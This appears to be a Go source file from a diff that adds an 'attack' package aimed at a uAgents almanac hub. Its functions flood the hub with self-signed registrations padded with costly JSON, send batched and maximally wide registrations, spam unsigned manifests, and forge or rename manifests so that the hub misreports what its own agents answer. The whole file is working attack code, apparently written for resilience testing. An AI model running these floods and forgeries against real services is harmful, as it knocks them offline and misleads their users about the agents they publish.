@@ -1,0 +1,360 @@
+package attack
+
+import (
+	"bytes"
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"net/http"
+	"slices"
+	"strconv"
+	"strings"
+	"time"
+
+	"github.com/parley-hub/parley/uagents"
+)
+
+const (
+	pathAgents    = "/v1/almanac/agents"
+	pathManifests = "/v1/almanac/manifests"
+	pathSubmit    = "/submit"
+	pathMailbox   = "/v2/agents/mailbox/submit"
+)
+
+// texts is a JSON array of many short texts, of so many bytes: a form that
+// costs a parser that keeps what it parsed many times its length.
+func texts(size int) []byte {
+	const one = `"x",`
+	b := bytes.Repeat([]byte(one), max(1, size/len(one)))
+	b[len(b)-1] = ']'
+	return append([]byte{'['}, b...)
+}
+
+// registration renders a signed registration. The metadata is put into the
+// signed text as it is, so that its parse costs the attack nothing.
+func (a *Attack) registration(
+	id *uagents.Identity, endpoints []uagents.Endpoint, protocols []string, metadata []byte,
+) ([]byte, error) {
+	r := uagents.NewRegistration(id, false, endpoints, protocols)
+	r.Timestamp = uagents.Uint(uint64(a.c.Now().Unix()))
+	text, err := r.SignedText()
+	if err != nil {
+		return nil, err
+	}
+	if metadata != nil {
+		whole := append([]byte(`"metadata":{"padding":`), append(slices.Clone(metadata), '}')...)
+		text = bytes.Replace(text, []byte(`"metadata":{}`), whole, 1)
+	}
+	signature, err := id.SignDigest(sha256.Sum256(text))
+	if err != nil {
+		return nil, err
+	}
+	return append(text[:len(text)-1], `,"signature":"`+signature+`"}`...), nil
+}
+
+var elsewhere = []uagents.Endpoint{{URL: "http://192.0.2.1/submit", Weight: 1}}
+
+// Registrations registers n self-made uAgents keys, each with metadata of so
+// many bytes.
+func (a *Attack) Registrations(ctx context.Context, n, metadata int) Result {
+	padding := texts(metadata)
+	return a.flood(ctx, n, func(int) (*request, error) {
+		id, err := uagents.NewIdentity()
+		if err != nil {
+			return nil, err
+		}
+		b, err := a.registration(id, elsewhere, []string{uagents.ChatProtocolDigest}, padding)
+		return post(pathAgents, b), err
+	})
+}
+
+// The most that a registration may name.
+const (
+	mostEndpoints = 20
+	mostProtocols = 200
+)
+
+// WideRegistrations registers n self-made keys, each with as many endpoints
+// and protocols as a registration may name.
+func (a *Attack) WideRegistrations(ctx context.Context, n int) Result {
+	var endpoints []uagents.Endpoint
+	for i := range mostEndpoints {
+		at := fmt.Sprintf("http://192.0.2.%d/%s", i+1, strings.Repeat("x", 1500))
+		endpoints = append(endpoints, uagents.Endpoint{URL: at, Weight: 1})
+	}
+	return a.flood(ctx, n, func(int) (*request, error) {
+		id, err := uagents.NewIdentity()
+		if err != nil {
+			return nil, err
+		}
+		protocols := make([]string, mostProtocols)
+		for p := range protocols {
+			sum := sha256.Sum256([]byte(id.Address() + strconv.Itoa(p)))
+			protocols[p] = "proto:" + hex.EncodeToString(sum[:])
+		}
+		b, err := a.registration(id, endpoints, protocols, nil)
+		return post(pathAgents, b), err
+	})
+}
+
+// Batches sends n batches of each registrations, with metadata of so many
+// bytes. A batch whose every registration was refused is answered as a refusal.
+func (a *Attack) Batches(ctx context.Context, n, each, metadata int) Result {
+	padding := texts(metadata)
+	return a.flood(ctx, n, func(int) (*request, error) {
+		b := []byte(`{"attestations":[`)
+		for i := range each {
+			id, err := uagents.NewIdentity()
+			if err != nil {
+				return nil, err
+			}
+			one, err := a.registration(id, elsewhere, []string{uagents.ChatProtocolDigest}, padding)
+			if err != nil {
+				return nil, err
+			}
+			if i > 0 {
+				b = append(b, ',')
+			}
+			b = append(b, one...)
+		}
+		return post(pathAgents+"/batch", append(b, `]}`...)), nil
+	})
+}
+
+// Manifests publishes n manifests of about so many bytes, each with a digest of
+// its own. Nobody signs a manifest.
+func (a *Attack) Manifests(ctx context.Context, n, size int) Result {
+	model, err := modelOf("Padding", "")
+	if err != nil {
+		return Result{Err: err}
+	}
+	rest, err := manifest("", "guest", texts(size), []guestModel{model}, nil)
+	if err != nil {
+		return Result{Err: err}
+	}
+	// Of the digest only the version differs: the attack need not make the rest anew.
+	rest = bytes.TrimPrefix(rest, []byte(`{"version":""`))
+	unique := strconv.FormatInt(a.c.Now().UnixNano(), 36)
+	return a.flood(ctx, n, func(i int) (*request, error) {
+		return post(pathManifests, slices.Concat([]byte(fmt.Sprintf(`{"version":"%s-%d"`, unique, i)), rest)), nil
+	})
+}
+
+// guestModel is a model as a manifest names it.
+type guestModel struct {
+	Digest string          `json:"digest"`
+	Schema json.RawMessage `json:"schema"`
+}
+
+// modelOf makes a model that any object fits.
+func modelOf(title, description string) (guestModel, error) {
+	schema, err := json.Marshal(struct {
+		Title       string   `json:"title"`
+		Description string   `json:"description,omitempty"`
+		Type        string   `json:"type"`
+		Properties  struct{} `json:"properties"`
+	}{Title: title, Description: description, Type: "object"})
+	if err != nil {
+		return guestModel{}, err
+	}
+	m, err := uagents.ParseModel(schema)
+	if err != nil {
+		return guestModel{}, err
+	}
+	return guestModel{m.Digest(), schema}, nil
+}
+
+// interaction is a request with its answers, by digest.
+type interaction struct {
+	Type      string   `json:"type"`
+	Request   string   `json:"request"`
+	Responses []string `json:"responses"`
+}
+
+// manifest renders a manifest; the version stands first.
+func manifest(version, name string, padding []byte, models []guestModel, interactions []interaction) ([]byte, error) {
+	type metadata struct {
+		Name    string          `json:"name"`
+		Padding json.RawMessage `json:"padding,omitempty"`
+	}
+	if interactions == nil {
+		interactions = []interaction{}
+	}
+	return json.Marshal(struct {
+		Version      string        `json:"version"`
+		Metadata     metadata      `json:"metadata"`
+		Models       []guestModel  `json:"models"`
+		Interactions []interaction `json:"interactions"`
+	}{version, metadata{name, padding}, models, interactions})
+}
+
+// A Published is what the hub says to everybody about an agent of its own: the
+// manifest of what the agent can be asked, and one request of it.
+type Published struct {
+	Protocol string // digest of the manifest
+	Manifest []byte // as the hub gives it
+	Request  string // digest of a request
+	schema   json.RawMessage
+}
+
+// Published asks the hub what it publishes of the target.
+func (a *Attack) Published(ctx context.Context) (Published, error) {
+	var p Published
+	status, b, err := a.get(ctx, pathAgents+"/"+a.c.Target)
+	var record struct{ Protocols []string }
+	if err == nil {
+		err = wanted(status, b)
+	}
+	if err == nil {
+		err = json.Unmarshal(b, &record)
+	}
+	if err != nil {
+		return p, fmt.Errorf("attack: the record of %s: %w", a.c.Target, err)
+	}
+	for _, digest := range record.Protocols {
+		if digest == uagents.ChatProtocolDigest {
+			continue
+		}
+		status, b, err := a.get(ctx, pathManifests+"/protocols/"+digest)
+		if err == nil {
+			err = wanted(status, b)
+		}
+		if err != nil {
+			return p, fmt.Errorf("attack: the manifest %s: %w", digest, err)
+		}
+		var m struct {
+			Models       []guestModel
+			Interactions []interaction
+		}
+		if err := json.Unmarshal(b, &m); err != nil {
+			return p, err
+		}
+		if len(m.Interactions) == 0 {
+			continue
+		}
+		p = Published{Protocol: digest, Manifest: b, Request: m.Interactions[0].Request}
+		at := slices.IndexFunc(m.Models, func(m guestModel) bool { return m.Digest == p.Request })
+		if at < 0 {
+			return p, errors.New("attack: the manifest does not define its request")
+		}
+		p.schema = m.Models[at].Schema
+		return p, nil
+	}
+	return p, fmt.Errorf("attack: %s has no manifest of its own", a.c.Target)
+}
+
+// Ask asks the target for what an empty object asks, as a self-made key, and
+// gives the schema digest and the text of the answer.
+func (a *Attack) Ask(ctx context.Context, schema string) (answer, text string, err error) {
+	id, err := uagents.NewIdentity()
+	if err != nil {
+		return "", "", err
+	}
+	payload := uagents.EncodePayload([]byte("{}"))
+	b, err := a.envelope(id, a.c.Target, schema, &payload, a.c.Now().Add(time.Minute))
+	if err != nil {
+		return "", "", err
+	}
+	r := post(pathSubmit, b)
+	r.header = map[string][]string{"X-Uagents-Connection": {"sync"}}
+	status, b, err := a.do(ctx, a.webs[0], r)
+	if err == nil {
+		err = wanted(status, b)
+	}
+	if err != nil {
+		return "", "", fmt.Errorf("attack: the target: %w", err)
+	}
+	e, err := uagents.Decode(b)
+	if err != nil {
+		return "", "", err
+	}
+	m, err := e.Message()
+	return m.Schema, string(m.Payload), err
+}
+
+// Mislead publishes n times what might change what the hub says of its own
+// agents: a manifest by which the target's request is answered in a model of
+// the attack, named by a registered key; and a copy of the target's own
+// manifest under another name. It counts as changed what the hub then says
+// otherwise.
+func (a *Attack) Mislead(ctx context.Context, n int) Result {
+	p, err := a.Published(ctx)
+	if err != nil {
+		return Result{Err: err}
+	}
+	answer, _, err := a.Ask(ctx, p.Request)
+	if err != nil {
+		return Result{Err: err}
+	}
+	copied := Rename(p.Manifest, "a name that a guest chose")
+	unique := strconv.FormatInt(a.c.Now().UnixNano(), 36)
+	return a.each(ctx, n, func(web *http.Client, i int, t *tally) error {
+		forged, digest, err := Forge(p, fmt.Sprintf("%s-%d", unique, i))
+		if err != nil {
+			return err
+		}
+		id, err := uagents.NewIdentity()
+		if err != nil {
+			return err
+		}
+		registered, err := a.registration(id, elsewhere, []string{digest, p.Protocol}, nil)
+		if err != nil {
+			return err
+		}
+		a.send(ctx, web, post(pathManifests, forged), t)
+		a.send(ctx, web, post(pathAgents, registered), t)
+		a.send(ctx, web, post(pathManifests, copied), t)
+		now, _, err := a.Ask(ctx, p.Request)
+		misled := err == nil && now != answer
+		if again, err := a.Published(ctx); err == nil && string(again.Manifest) != string(p.Manifest) {
+			misled = true
+		}
+		t.add(func(r *Result) {
+			if misled {
+				r.Changed++
+			}
+		})
+		return nil
+	})
+}
+
+// Forge makes a manifest by which a published request is answered in another
+// model, and gives its digest.
+func Forge(p Published, version string) (b []byte, digest string, err error) {
+	answer, err := modelOf("Forged", "a model that a guest made")
+	if err != nil {
+		return nil, "", err
+	}
+	models := []guestModel{{p.Request, p.schema}, answer}
+	b, err = manifest(version, "forged", nil, models, []interaction{{"normal", p.Request, []string{answer.Digest}}})
+	if err != nil {
+		return nil, "", err
+	}
+	m, err := uagents.ParseManifest(b)
+	if err != nil {
+		return nil, "", err
+	}
+	return b, m.Digest(), nil
+}
+
+// Rename gives a manifest another name; its digest stays.
+func Rename(manifest []byte, name string) []byte {
+	var m map[string]json.RawMessage
+	var metadata map[string]json.RawMessage
+	if json.Unmarshal(manifest, &m) != nil || json.Unmarshal(m["metadata"], &metadata) != nil {
+		return manifest
+	}
+	metadata["name"] = json.RawMessage(strconv.Quote(name))
+	var err error
+	if m["metadata"], err = json.Marshal(metadata); err != nil {
+		return manifest
+	}
+	b, err := json.Marshal(m)
+	if err != nil {
+		return manifest
+	}
+	return b
+}
